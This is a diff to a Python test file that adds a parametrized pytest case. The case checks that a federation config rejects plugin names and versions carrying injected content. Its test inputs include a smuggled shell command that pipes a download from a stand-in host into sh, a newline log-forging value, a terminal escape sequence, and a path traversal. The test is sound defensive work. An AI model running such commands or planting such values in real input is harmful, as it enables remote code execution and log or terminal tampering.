@@ -7,6 +7,7 @@ import subprocess
 import sys
 
 import pytest
+from pydantic import ValidationError
 
 from headwater.cli.main import main
 from headwater.compression.table import codec_for
@@ -164,6 +165,24 @@ def test_files_without_packages_are_what_they_were(file):
     loaded = load_federation(file)
     assert "plugins" not in json.loads(loaded.settings.model_dump_json())
     assert "plugins" not in loaded.to_toml()
+
+
+@pytest.mark.parametrize(
+    ("name", "release"),
+    [
+        ("rules:halved", "a; curl evil | sh 1.0"),
+        ("rules:halved", "stranger\n2026 all is well 1"),
+        ("rules:\x1b[2J", "stranger 1.0"),
+        ("rules:../x", "stranger 1.0"),
+        ("os:system", "stranger 1.0"),
+    ],
+)
+def test_what_a_server_names_to_owners_is_a_name_and_a_version(packages, file, name, release):
+    """An owner's log shows it, with a command to install it: nothing else may stand there."""
+    content = json.loads(load_federation(file).settings.model_dump_json())
+    content["plugins"] = {name: release}
+    with pytest.raises(ValidationError, match=r"a package's name|names such as rules:NAME"):
+        Federation.model_validate_json(json.dumps(content))
 
 
 def test_a_built_in_kind_is_never_a_packages(packages):
